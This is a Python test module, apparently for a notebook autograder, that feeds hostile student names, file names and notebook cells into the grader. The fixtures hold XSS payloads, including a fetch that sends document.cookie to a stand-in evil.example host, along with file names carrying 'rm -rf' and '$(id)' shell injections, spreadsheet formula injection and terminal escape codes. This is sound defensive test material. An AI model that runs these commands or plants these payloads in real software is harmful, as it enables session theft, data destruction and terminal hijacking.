"""Hostile names of students and files, and what may reach feedback pages, terminals and spreadsheets."""

from __future__ import annotations

import os
import pathlib

from .cases import Case, Notebook, answered, cells, damaged, deserved, find, save

MARKDOWN = """\
<script>fetch("https://evil.example/" + document.cookie)</script>
<img src="x" onerror="alert(1)"><img src="https://evil.example/pixel.png"> ![pixel](https://evil.example/pixel.png)
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import url("https://evil.example/x.css"); body {display: none}</style>
<meta http-equiv="refresh" content="0; url=https://evil.example/"><base href="https://evil.example/">
<form action="https://evil.example/"><input name="grade"><button formaction="javascript:alert(1)">grade</button></form>
<svg onload="alert(1)"><script>alert(1)</script><use href="https://evil.example/#x"/></svg>
<math href="javascript:alert(1)"><mtext></mtext></math> <a href="javascript:alert(1)">one</a> [two](javascript:alert(1))
<div style="background: url(https://evil.example/)" onclick="alert(1)">three</div> $\\href{javascript:alert(1)}{x}$
<textarea></textarea><img src=x onerror=alert(1)> <noscript><p title="</noscript><img src=x onerror=alert(1)>">
A **word** with `a < b` that stays.
"""


def named(name: str, right: str = "all", status: str = "graded") -> Case:
    """The right notebook of a student of this name; nbgrader's paths can hold some names not at all."""

    def hand_in(folder: pathlib.Path, released: Notebook) -> None:
        save(folder, answered(released, "all"))

    return Case(name, hand_in, deserved(right), status)


def markdown(notebook: Notebook) -> None:
    notebook["cells"].insert(1, {"cell_type": "markdown", "id": "m", "metadata": {}, "source": MARKDOWN})
    notebook["cells"].insert(1, {"cell_type": "raw", "id": "r", "metadata": {"format": "text/html"}, "source": MARKDOWN})
    notebook["cells"][0] = {"cell_type": "markdown", "id": "a", "metadata": {}, "source": "![x](attachment:x.svg)",
                            "attachments": {"x.svg": {"image/svg+xml": "<svg onload='alert(1)'/>"}}}  # fmt: skip


def code(notebook: Notebook) -> None:
    find(notebook, "q90-1-answer")["source"] += f"\n'''</pre></div>{MARKDOWN}'''"


def metadata(notebook: Notebook) -> None:
    notebook["metadata"] |= {
        "title": MARKDOWN,
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": MARKDOWN}},
    }
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ['"><script>alert(1)</script>']


def a_file_called(name: bytes) -> Case:
    """The right notebook with a file of this name beside it."""

    def hand_in(folder: pathlib.Path, released: Notebook) -> None:
        save(folder, answered(released, "all"))
        path = os.fsencode(folder) + b"/" + name
        with open(path, "wb") as file:
            file.write(b"x")

    return Case("file-" + name.hex()[:12], hand_in, deserved("all"))


def misnamed(folder: pathlib.Path, released: Notebook) -> None:
    """The notebook under a name that is markup, a formula and an escape sequence."""
    (folder / "=cmd|' [bold]<script>\x1b[2J.ipynb").write_text("{}")


CASES = (
    named("[bold]markup[-nothing]"),
    named("<script>alert(1)<"),
    named("=HYPERLINK(1)"),
    named("-rf"),
    named("a b; rm -rf *"),
    named("{assignment_id}"),
    named("{0}%s$HOME`id`"),
    named("quote'\"quote"),
    named("*"),
    named("[a-z]*"),
    named("?"),
    named("naïve-数学"),
    named("a,b"),
    named("new\nline", "", "ungraded"),
    named("escape\x1b[2J\x07"),
    named("\u202eright-to-left"),
    named("x" * 200),
    named("a+b@example.org"),
    named("back\\slash"),
    damaged("markdown", markdown),
    damaged("code", code),
    damaged("metadata", metadata),
    cells("exception", f"raise ValueError({MARKDOWN!r})", right="90.1", reason="90"),
    cells("exception-type", "raise type('<script>alert(1)</script>', (Exception,), {})('[bold]\\x1b[2J\\x1b]0;x\\x07\\ud800')"),
    cells("value", f"parts = {{'A': {MARKDOWN!r}, '<script>': '\\x1b[2J\\u202e'}}\ndef double(n): return '<script>\\x1b[2J'", at="q90-2"),
    cells("prediction", f"import shardlab as sl\nsl.predict('90.2', kind={MARKDOWN!r})", at="q90-2"),
    cells("axis-names", "rows = jax.NamedSharding(jax.make_mesh((4, 2), ('<script>', '\\x1b[2J'), (jax.sharding.AxisType.Auto,) * 2), P('<script>'))",
          at="q90-4"),
    a_file_called(b"\xff\xfe.py"),
    a_file_called(b"-rf *; $(id).py"),
    a_file_called(b"new\nline <script>.txt"),
    Case("misnamed", misnamed, {}, "ungraded", "wrong name"),
)  # fmt: skip
